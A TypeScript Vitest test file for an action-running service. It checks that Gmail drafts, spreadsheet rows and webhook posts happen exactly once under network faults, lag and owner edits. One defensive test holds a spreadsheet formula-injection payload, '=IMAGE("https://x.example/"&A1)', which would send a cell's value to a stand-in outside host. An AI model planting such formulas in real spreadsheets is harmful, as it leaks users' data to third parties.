import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { markOf } from '#server/domain/action/kinds/row-place.ts';
import { resolveAction } from '#server/domain/action/resolve-action.ts';
import { startWebhookPeer, type WebhookPeer } from '../peers/webhook-peer.ts';
import { Floor } from './floor.ts';
import { Outbox, type GivenAction } from './outbox.ts';
import { sure } from './sure.ts';

/** Faults 21, 22, 24 to 27 and 37: Google applies and is silent, applies nothing and fails, lags, and asks to wait. */

let floor: Floor;
let hooks: WebhookPeer;
beforeAll(async () => {
	floor = await Floor.open({ postgres: inject('postgres'), google: true, timeScale: 0.1 });
	hooks = await startWebhookPeer();
	floor.onClose(hooks.close);
	// Supervised: on a busy machine one may take itself for dead and come back.
	await Promise.all([floor.supervised().current.ready(), floor.supervised().current.ready()]);
});
afterAll(async () => {
	await floor.settled();
	expect(await floor.violations()).toEqual([]);
	await floor.close();
});

/** What a person does on Google's own pages. */
async function byHand(outbox: Outbox, path: string, fields: Record<string, string> = {}): Promise<void> {
	const url = `${outbox.sandbox.url}/${path}`;
	const answer = await fetch(url, { method: 'POST', body: new URLSearchParams(fields), redirect: 'manual' });
	expect(answer.status, await answer.text()).toBe(303);
}

const draftsOf = ({ sandbox, email }: Outbox) =>
	sure(sandbox.state().accounts.find((account) => account.email === email)).drafts;
const sheetOf = ({ sandbox, spreadsheet }: Outbox) =>
	sure(sandbox.state().spreadsheets.find(({ id }) => id === spreadsheet));
const silentDraft = (outbox: Outbox) => outbox.give(outbox.draft('sandbox:reset-after'));

describe.concurrent('an answer that never comes', () => {
	const quickly = /^effect unknown(, look not_found)*, look found$/;
	const again = /^effect unknown(, look not_found)+, effect applied$/;

	test.each([
		['draft', 'reset-after', quickly],
		['row', 'reset-after', /^effect unknown, look found$/],
		['draft', 'garbled-after', quickly],
		['row', 'garbled-after', /^effect unknown, look found$/],
		['draft', '503-after', quickly],
		['row', '503-after', /^effect unknown, look found$/],
		['draft', '503-before', again],
		['row', '503-before', /^effect unknown, look not_found, effect applied$/],
		['draft', 'reset-before', again],
		['draft', 'hang-after', quickly]
	] as const)('%s, %s: one effect', { timeout: 90_000 }, async (what, fault, story) => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox[what](`sandbox:${fault}`));
		const { receipt } = await outbox.until(action, 'succeeded', 80);
		expect(outbox.effects(action)).toBe(1);
		expect(await outbox.story(action)).toMatch(story);
		expect(receipt).toMatchObject({ url: expect.stringContaining(outbox.sandbox.url) });
		expect(await floor.status(action.taskId)).toBe('completed');
	});

	test('Gmail’s search lags: it is waited for, and there is no second draft', async () => {
		const outbox = await Outbox.open(floor);
		outbox.sandbox.set({ email: outbox.email, searchLagSeconds: 30 });
		const action = await silentDraft(outbox);
		await outbox.until(action, 'succeeded');
		expect(await outbox.story(action)).toMatch(/^effect unknown(, look not_found){2,}, look found$/);
		expect(outbox.effects(action)).toBe(1);
	});

	test(
		'what never gets an answer is tried a few times, and then a person is asked',
		{ timeout: 120_000 },
		async () => {
			const outbox = await Outbox.open(floor);
			const action = await outbox.give(outbox.row('sandbox:503-before-always'));
			const { errorCode, attempts } = await outbox.until(action, 'needs_human', 100);
			expect(errorCode).toBe('never_done');
			expect(attempts.filter(({ purpose }) => purpose === 'effect')).toHaveLength(6);
			expect(outbox.effects(action)).toBe(0);
		}
	);
});

describe.concurrent('the owner was there first', () => {
	test.each(['edit', 'send', 'delete'])(
		'a draft that the owner chose to %s before it was found is not made again',
		async (act) => {
			const outbox = await Outbox.open(floor);
			// So slow that the owner is quicker.
			outbox.sandbox.set({ email: outbox.email, searchLagSeconds: 600 });
			const action = await silentDraft(outbox);
			await floor.until('the draft is there', async () => draftsOf(outbox).length === 1);
			const { id } = sure(draftsOf(outbox)[0]);
			const fields = { to: 'priya@harbour.example', cc: '', bcc: '', subject: 'Changed', text: 'Changed.' };
			await byHand(
				outbox,
				`mail/${outbox.email}/${encodeURIComponent(id)}/${act}`,
				act === 'edit' ? fields : {}
			);
			const { errorCode, errorMessage } = await outbox.until(action, 'needs_human');
			expect(errorCode).toBe('undecidable');
			expect(errorMessage).toContain('look in Drafts and Sent for “sandbox:reset-after');
			expect(outbox.effects(action)).toBe(1);
			expect(draftsOf(outbox)).toHaveLength(act === 'edit' ? 1 : 0);
		}
	);

	test('“try again”, although the draft has come to light meanwhile: it is found and not made again', async () => {
		const outbox = await Outbox.open(floor);
		// Not before our looks are over, however slow the machine is; and the mailbox moves meanwhile.
		outbox.sandbox.set({ email: outbox.email, searchLagSeconds: 300 });
		const action = await silentDraft(outbox);
		await outbox.until(action, 'unknown: looking');
		await outbox.give(outbox.draft());
		const { effectAt } = await outbox.until(action, 'needs_human');
		const isFound = async () => Date.now() - sure(effectAt).getTime() > 30_500;
		await floor.until('the search would find it', isFound);
		await resolveAction(floor.app, outbox.tenant.owner, { id: action.id, outcome: 'again' });
		await outbox.until(action, 'succeeded');
		expect(outbox.effects(action)).toBe(1);
	});

	test('a draft that the owner deletes afterwards stays deleted', async () => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox.draft());
		await outbox.until(action, 'succeeded');
		const { id } = sure(draftsOf(outbox)[0]);
		await byHand(outbox, `mail/${outbox.email}/${encodeURIComponent(id)}/delete`);
		await floor.app.db.$executeRaw`
			select graphile_worker.add_job('run-action', json_build_object('actionId', ${action.id}::text))`;
		const another = await outbox.give(outbox.draft());
		await outbox.until(another, 'succeeded');
		expect(draftsOf(outbox)).toHaveLength(1);
		expect(outbox.effects(action)).toBe(1);
	});
});

describe.concurrent('a sheet that is not as it was', () => {
	test('a tab renamed between two tries is the same tab', async () => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox.row('sandbox:429'));
		await outbox.until(action, 'approved: rate_limit');
		await byHand(outbox, `spreadsheets/d/${outbox.spreadsheet}/0/rename`, { title: 'Autumn' });
		await outbox.until(action, 'succeeded');
		const [tab] = sheetOf(outbox).tabs;
		expect(tab).toMatchObject({ title: 'Autumn' });
		expect(sure(tab).rows.at(-1)?.[1]?.text).toContain('sandbox:429');
	});

	test('a tab that is gone needs a person, who is told which tabs there are', async () => {
		const outbox = await Outbox.open(floor);
		await byHand(outbox, `spreadsheets/d/${outbox.spreadsheet}/add`);
		await byHand(outbox, `spreadsheets/d/${outbox.spreadsheet}/0/delete`);
		const action = await outbox.give(outbox.row());
		const { errorCode, errorMessage } = await outbox.until(action, 'needs_human');
		expect(errorCode).toBe('tab_gone');
		const there = sure(sheetOf(outbox).tabs[0]).title;
		expect(errorMessage).toBe(
			`The tab “November” is not in “Expenses 2026” any more. Its tabs are: ${there}.`
		);
		expect(outbox.effects(action)).toBe(0);
	});

	test('columns are found by their header, whatever their order; one that is not there needs a person', async () => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox.row('Ash & Oak'));
		await outbox.until(action, 'succeeded');
		const texts = sure(sheetOf(outbox).tabs[0])
			.rows.at(-1)
			?.map(({ text }) => text);
		expect(texts).toEqual(['2026-11-23', expect.stringContaining('Ash & Oak'), '', '12.50']);
		const columns = [{ header: 'Colour', value: 'blue' }];
		const payload = { spreadsheet: outbox.spreadsheet, tab: 'november', columns };
		const other = await outbox.give({ kind: 'sheets.appendRow', payload });
		const { errorMessage } = await outbox.until(other, 'needs_human');
		expect(errorMessage).toBe(
			'The tab “November” has no column “Colour”. Its columns are: Date, Supplier, Description, Amount, VAT, Category.'
		);
	});

	test('a formula is text', async () => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox.row('=IMAGE("https://x.example/"&A1)'));
		await outbox.until(action, 'succeeded');
		const cell = sure(sheetOf(outbox).tabs[0]).rows.at(-1)?.[1];
		expect(cell).toMatchObject({ kind: 'string', text: expect.stringContaining('=IMAGE(') });
	});

	test('a number that another program has taken is left alone, and the next one is used', async () => {
		const outbox = await Outbox.open(floor);
		const action = sure((await outbox.propose(outbox.row()))[0]);
		const { payloadHash } = await outbox.read(action);
		const mark = markOf(`${action.id}.${payloadHash.slice(0, 12)}@localhost`);
		const taken = createHash('sha256').update(`${mark} 0`).digest().readUInt32BE() >>> 1;
		await leaveMetadata(outbox, taken);
		await outbox.approve(action);
		await outbox.until(action, 'succeeded');
		const values = sheetOf(outbox).metadata.map(({ metadataId, metadataValue }) => [
			metadataId === taken,
			metadataValue
		]);
		expect(values).toEqual([
			[true, 'somebody else’s'],
			[false, mark]
		]);
		expect(outbox.effects(action)).toBe(1);
	});
});

/** What another program keeps in the same spreadsheet. */
async function leaveMetadata(outbox: Outbox, metadataId: number): Promise<void> {
	const { accessToken } = outbox.sandbox.connect({ email: outbox.email });
	const developerMetadata = {
		metadataId,
		metadataKey: 'other',
		metadataValue: 'somebody else’s',
		location: { spreadsheet: true },
		visibility: 'DOCUMENT'
	};
	const answer = await fetch(`${outbox.sandbox.url}/v4/spreadsheets/${outbox.spreadsheet}:batchUpdate`, {
		method: 'POST',
		headers: { authorization: `Bearer ${accessToken}`, 'content-type': 'application/json' },
		body: JSON.stringify({ requests: [{ createDeveloperMetadata: { developerMetadata } }] })
	});
	expect(answer.status, await answer.text()).toBe(200);
}

describe.concurrent('Google asks for something', () => {
	test('429 with Retry-After waits as told, burns no try, and others go on', async () => {
		const outbox = await Outbox.open(floor);
		const slow = await outbox.give(outbox.draft('sandbox:429-twice'));
		await outbox.until(slow, 'approved: rate_limit');
		const quick = await outbox.give(outbox.draft());
		await outbox.until(quick, 'succeeded');
		expect(await outbox.status(slow)).not.toBe('succeeded');
		const { attempt, attempts } = await outbox.until(slow, 'succeeded');
		expect(attempt).toBe(0);
		expect(await outbox.story(slow)).toBe('effect not_applied, effect not_applied, effect applied');
		const [first, second] = attempts.map(({ sentAt }) => sentAt.getTime());
		expect(sure(second) - sure(first)).toBeGreaterThanOrEqual(2_000);
		expect(outbox.effects(slow)).toBe(1);
	});

	test('a token that is dead before its time is replaced', async () => {
		const outbox = await Outbox.open(floor);
		const action = await outbox.give(outbox.draft('sandbox:401-once'));
		await outbox.until(action, 'succeeded');
		expect(await outbox.story(action)).toBe('effect not_applied, effect applied');
		expect(outbox.effects(action)).toBe(1);
	});
});

describe.concurrent('webhooks', () => {
	const registered = async () => {
		const outbox = await Outbox.open(floor, false);
		const entry = { workspaceId: outbox.workspaceId, kind: 'webhook', value: hooks.url, label: 'CRM' };
		const { id } = await floor.app.db.addressBookEntry.create({ data: entry });
		return { outbox, entryId: id };
	};
	const message = (value: string) => ({
		kind: 'webhook.post',
		payload: { address: 'crm', fields: [{ name: 'note', value }] }
	});
	const taken = (action: GivenAction) => hooks.taken.filter(({ id }) => id.startsWith(action.id));

	test('one message to a registered address, without any connection to Google', async () => {
		const { outbox } = await registered();
		const action = await outbox.give(message('Hello'));
		const { receipt } = await outbox.until(action, 'succeeded');
		expect(receipt).toMatchObject({ detail: 'Taken by CRM with status 200.' });
		expect(taken(action)).toHaveLength(1);
		const { id, body } = sure(taken(action)[0]);
		expect(JSON.parse(body)).toEqual({
			id,
			event: 'agentforce.action',
			fields: [{ name: 'note', value: 'Hello' }]
		});
	});

	test.each(['503-after', 'reset-after', '503-before'])(
		'%s: a person is asked, and nothing is sent again',
		async (fault) => {
			const { outbox } = await registered();
			const action = await outbox.give(message(`peer:${fault}`));
			const { errorCode } = await outbox.until(action, 'needs_human');
			expect(errorCode).toBe('undecidable');
			expect(hooks.requests.filter(({ id }) => id.startsWith(action.id))).toHaveLength(1);
		}
	);

	test('a refusal is certain, and a busy receiver is asked again with the same id', async () => {
		const { outbox } = await registered();
		const refused = await outbox.give(message('peer:400'));
		expect(await outbox.until(refused, 'needs_human')).toMatchObject({ errorCode: 'refused' });
		const busy = await outbox.give(message('peer:429'));
		await outbox.until(busy, 'succeeded');
		const ids = hooks.requests.filter(({ id }) => id.startsWith(busy.id)).map(({ id }) => id);
		expect(ids).toHaveLength(2);
		expect(new Set(ids).size).toBe(1);
		expect(taken(busy)).toHaveLength(1);
	});

	test('an address that nobody has registered cannot be approved', async () => {
		const outbox = await Outbox.open(floor, false);
		const action = sure((await outbox.propose(message('Hello')))[0]);
		await expect(outbox.approve(action)).rejects.toMatchObject({ code: 'needs_choice' });
		expect(taken(action)).toEqual([]);
	});

	test.each(['is gone', 'means another address'])('a name that %s by now: decided anew', async (what) => {
		const { outbox, entryId } = await registered();
		const action = await outbox.hold(message('Hello'));
		await floor.app.db.addressBookEntry.delete({ where: { id: entryId } });
		const { workspaceId } = outbox;
		const other = { workspaceId, kind: 'webhook', value: `${hooks.url}/other`, label: 'CRM' };
		if (what !== 'is gone') await floor.app.db.addressBookEntry.create({ data: other });
		await outbox.letGo(action);
		await outbox.until(action, 'proposed');
		expect(hooks.requests.filter(({ id }) => id.startsWith(action.id))).toEqual([]);
	});
});
